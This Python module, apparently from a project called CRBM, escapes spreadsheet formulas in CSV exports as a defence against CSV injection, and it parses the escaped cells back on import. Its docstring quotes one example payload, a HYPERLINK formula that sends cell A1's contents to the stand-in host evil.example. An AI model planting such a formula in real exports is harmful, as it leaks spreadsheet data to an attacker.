"""CSV files people open in a spreadsheet: no cell is ever read as a formula.

A spreadsheet evaluates a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(and TAB or CR in front of one is skipped by some), so a record named
``=HYPERLINK("http://evil.example?"&A1,"Open")`` would run when an exported list is opened
(CSV injection, OWASP). Every CSV that CRBM writes goes through ``writer()``: a text cell
starting with one of those characters gets a ``'`` in front, which spreadsheets show as
text and do not display. The rule is OWASP's.

Numbers are not text: a value that was a number (``int``, ``Decimal``, ``float``), or a
``Number`` (a number formatted for people, like ``-1,234.50``), is written as it is, so a
spreadsheet still reads ``-12`` as minus twelve. Only text can carry a formula; a number
field's value cannot.
"""
from __future__ import annotations

import csv
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


class Number(str):
    """A number as formatted for people ("-1,234.50"): written without a prefix."""


def cell(value: Any) -> Any:
    """``value`` safe to write: text that a spreadsheet would read as a formula gets a
    leading ``'``; numbers and everything else are left alone."""
    if isinstance(value, str) and not isinstance(value, Number) and \
            value.startswith(FORMULA_START):
        return "'" + value
    return value


def is_number(value: Any) -> bool:
    return isinstance(value, int | float | Decimal) and not isinstance(value, bool)


class Writer:
    """``csv.writer`` whose every row goes through ``cell``."""

    def __init__(self, out, **options):
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out, **options) -> Writer:
    """A CSV writer for ``out`` (a text file) that escapes formulas; options as csv.writer."""
    return Writer(out, **options)


def read_cells(module, header: list[str], cells: list[str]) -> tuple[dict, dict]:
    """One CSV row read back as a record's values: columns named by field name or label,
    each cell parsed by its field's type (``FieldType.from_text``; a plugin's star type
    may read "3" or "★★★"), a leading ``'`` that ``cell`` added taken off. Returns
    (values, errors by field); unknown columns are left out."""
    by_label = {str(f.label): f for f in module.fields.values()}
    values, errors = {}, {}
    for title, text in zip(header, cells, strict=False):
        f = module.fields.get(title) or by_label.get(title)
        if f is None or not f.type.writable(f.spec):
            continue
        if text[:1] == "'" and text[1:2] in FORMULA_START:
            text = text[1:]
        try:
            values[f.name] = f.type.from_text(text, f.spec)
        except ValueError as exc:  # FieldError
            errors[f.name] = exc.args[0]
    return values, errors
